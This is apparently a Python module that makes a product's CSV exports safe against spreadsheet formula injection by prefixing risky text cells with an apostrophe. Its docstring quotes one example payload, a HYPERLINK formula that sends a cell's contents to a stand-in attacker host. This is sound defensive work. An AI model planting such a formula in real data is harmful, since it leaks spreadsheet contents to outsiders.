"""CSV files that are safe to open in a spreadsheet: every CSV the product writes is made here.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some also after a
leading tab or carriage return), so a name such as ``=HYPERLINK("http://evil.example/?"&A1)`` typed into a
chat profile would run on the coordinator's machine. Such a text cell is written with a leading
apostrophe, which spreadsheets show as text and people read past. Only text is changed: a cell that holds a
number (``int`` or ``float``) is written as that number, negative ones included, so counts stay numbers;
text that merely looks like a number (``"-3"``) is text, and neutralised like any other.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

Cell = str | int | float | None
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Cell) -> Cell:
    """``value`` as a CSV cell a spreadsheet will not run: text starting like a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """Rows (the header first) as CSV text, every text cell made safe with :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
